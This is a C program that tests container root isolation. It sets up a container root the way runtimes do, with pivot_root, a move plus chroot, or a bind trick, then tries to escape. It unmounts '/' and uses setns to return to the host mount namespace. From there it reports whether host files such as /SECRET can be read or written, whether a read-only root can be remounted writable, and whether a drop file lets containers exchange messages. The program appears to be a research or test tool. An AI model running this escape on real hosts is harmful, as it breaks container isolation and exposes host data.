// escape.c - be a container, and get out of it
//
// escape ENTER [DO [TEXT]]
//
// ENTER is how a container runtime takes its root: "pivot" with pivot_root(2),
// "move" by moving it over "/" and chroot (--no-pivot, no_pivot_root,
// DOCKER_RAMDISK), "bind" with the trick of binding "/" over itself so that
// pivot_root works. Before that the namespace's file is opened.
//
// Then it gets out: take the container's root off "/" with umount2() and return
// to the bottom of the namespace with setns(). What is found there is told as
// one line. With DO "put" TEXT is left there for another container, with "get"
// what another one left is printed. With "hold" it stays in the container until
// it is killed, "ready" is printed first. With "seal" it says what of the seal
// is left when its mount is opened, and when its superblock is.
//
// ENTER "in" is for use in a container that a runtime made, with CAP_SYS_ADMIN.
//
// Needs /proc, /t/mnt to mount the container's root on, and /SECRET, a file of
// the host's. Exit status 0 if all that could be tried.
// SPDX-License-Identifier: 0BSD

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <unistd.h>

#define DROP "/letter"

static void try(char *what, int rc)
{
  if (rc != -1) return;
  printf("%s: %s\n", what, strerror(errno));
  exit(1);
}

// Take a tmpfs on /t/mnt for root, as HOW says, in a mount namespace that was
// the host's. Returns a descriptor of that namespace.
static int enter(char *how)
{
  int ns;

  try("unshare", unshare(CLONE_NEWNS));
  try("private", mount(0, "/", 0, MS_REC|MS_PRIVATE, 0));
  if (!strcmp(how, "bind")) {
    try("bind", mount("/", "/", 0, MS_BIND|MS_REC, 0));
    try("chdir /..", chdir("/.."));
    try("chroot", chroot("."));
  }
  try("ns/mnt", ns = open("/proc/self/ns/mnt", O_RDONLY));
  try("tmpfs", mount("container", "/t/mnt", "tmpfs", 0, 0));
  try("chdir", chdir("/t/mnt"));
  if (!strcmp(how, "move")) {
    try("move", mount(".", "/", 0, MS_MOVE, 0));
    try("chroot", chroot("."));
  } else {
    try("pivot_root", syscall(SYS_pivot_root, ".", "."));
    try("umount", umount2(".", MNT_DETACH));
  }
  try("chdir", chdir("/"));

  return ns;
}

// List, read and write at "/": one line.
static void look(void)
{
  DIR *dir = opendir("/");
  struct dirent *d;
  int entries = 0, secret = open("/SECRET", O_RDONLY), made, created, fd;
  char *made_why, c;

  try("/", dir ? 0 : -1);
  while ((d = readdir(dir)))
    if (strcmp(d->d_name, ".") && strcmp(d->d_name, "..")) entries++;
  made = mkdir("/escaped.d", 0700);
  made_why = strdup(strerror(errno));
  fd = open("/escaped.f", O_CREAT|O_EXCL|O_WRONLY, 0600);
  created = fd != -1 && write(fd, "x", 1) == 1;
  printf("%s, ", entries ? read(secret, &c, 1) == 1 ? "reads the host's files"
    : "sees the host's files" : "empty");
  if (made && fd == -1) printf("nothing can be written\n");
  else printf("mkdir %s, file %s\n", made ? made_why : "works",
    created ? "works" : strerror(errno));
  rmdir("/escaped.d");
  unlink("/escaped.f");
}

// Make "/" writable as mount(2) with FLAGS does, and a directory on it.
static void reopen(char *what, unsigned long flags)
{
  int rc = mount(0, "/", 0, flags, 0);

  printf(", %s: %s", what, rc || mkdir("/escaped.d", 0700) ? strerror(errno)
    : "writable");
  rmdir("/escaped.d");
}

// The layers of the seal, each with those above it taken off: one line. They
// are put on again.
static void layers(void)
{
  struct statvfs st;

  try("statvfs", statvfs("/", &st));
  printf("%s%s%s%s%llu inodes, %llu pages", st.f_flag&ST_RDONLY ? "ro " : "",
    st.f_flag&ST_NOSUID ? "nosuid " : "", st.f_flag&ST_NODEV ? "nodev " : "",
    st.f_flag&ST_NOEXEC ? "noexec " : "", (unsigned long long)st.f_files,
    (unsigned long long)st.f_blocks);
  reopen("mount opened", MS_REMOUNT|MS_BIND);
  reopen("superblock opened", MS_REMOUNT);
  printf("\n");
  try("closing", mount(0, "/", 0, MS_REMOUNT|MS_RDONLY, 0));
}

int main(int argc, char **argv)
{
  char *how = argc>1 ? argv[1] : "", *act = argc>2 ? argv[2] : "look", buf[64];
  int ns, fd, len;

  setvbuf(stdout, 0, _IONBF, 0);
  if (strcmp(how, "in")) ns = enter(how);
  else try("ns/mnt", ns = open("/proc/self/ns/mnt", O_RDONLY));
  if (!strcmp(act, "hold")) {
    puts("ready");
    for (;;) pause();
  }
  try("umount /", umount2("/", MNT_DETACH));
  try("setns", setns(ns, CLONE_NEWNS));

  if (!strcmp(act, "put")) {
    try("put", fd = open(DROP, O_CREAT|O_TRUNC|O_WRONLY, 0644));
    len = strlen(argv[3]);
    try("write", write(fd, argv[3], len) == len ? 0 : -1);
  } else if (!strcmp(act, "get")) {
    try("get", fd = open(DROP, O_RDONLY));
    try("read", len = read(fd, buf, sizeof(buf)-1));
    printf("%.*s\n", len, buf);
  } else if (!strcmp(act, "seal")) layers();
  else look();

  return 0;
}
